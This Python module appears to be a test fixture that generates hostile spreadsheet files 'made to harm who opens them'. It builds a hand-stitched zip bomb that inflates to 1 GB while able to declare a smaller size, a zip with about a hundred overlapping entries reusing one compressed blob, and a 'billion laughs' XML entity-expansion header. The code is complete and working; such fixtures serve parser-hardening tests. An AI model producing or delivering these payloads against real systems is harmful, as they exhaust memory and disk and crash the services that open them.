"""Files that are made to harm who opens them, each small."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

MB = 2**20
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
BOOK = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
SHEET = '{head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


def xlsx(rows: str, head: str = "") -> bytes:
    """An .xlsx whose one sheet is just this XML."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for name, text in parts(rows, head).items():
            out.writestr(name, text)
    return packed.getvalue()


def parts(rows: str, head: str = "") -> dict[str, str]:
    return {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS.format(kind="officeDocument", target="xl/workbook.xml"),
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": RELS.format(kind="worksheet", target="worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": SHEET.format(rows=rows, head=head),
    }


def gigabyte(declared: int = 1024 * MB) -> bytes:
    """A sheet that unpacks to 1 GB of spaces, and may say that it is smaller."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = press.compress(b" " * MB) + press.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return stitched({**{n: t.encode() for n, t in parts("").items()}, "xl/worksheets/sheet1.xml": None}, block * 1024 + end, declared)


def stitched(files: dict[str, bytes | None], bomb: bytes, declared: int) -> bytes:
    """A zip written by hand, in which the entry without contents is `bomb`, as it stands."""
    out, central = b"", b""
    for name, contents in files.items():
        body, size, method = (bomb, declared, 8) if contents is None else (contents, len(contents), 0)
        about = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0, zlib.crc32(contents or b""), len(body), size, len(name), 0)
        central += b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name.encode()
        out += b"PK\x03\x04" + about + name.encode() + body
    return out + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(files), len(files), len(central), len(out), 0)


def overlapping() -> bytes:
    """A hundred entries that are all one and the same piece of the file."""
    data = gigabyte()
    at = data.rindex(b"PK\x01\x02")
    entry, tail = data[at : data.index(b"PK\x05\x06")], data[data.index(b"PK\x05\x06") :]
    count = 104
    size = len(data[data.index(b"PK\x01\x02") : data.index(b"PK\x05\x06")]) + 99 * len(entry)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, data.index(b"PK\x01\x02"), 0)
    assert tail.startswith(end[:4])
    return data[: data.index(b"PK\x05\x06")] + entry * 99 + end


LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
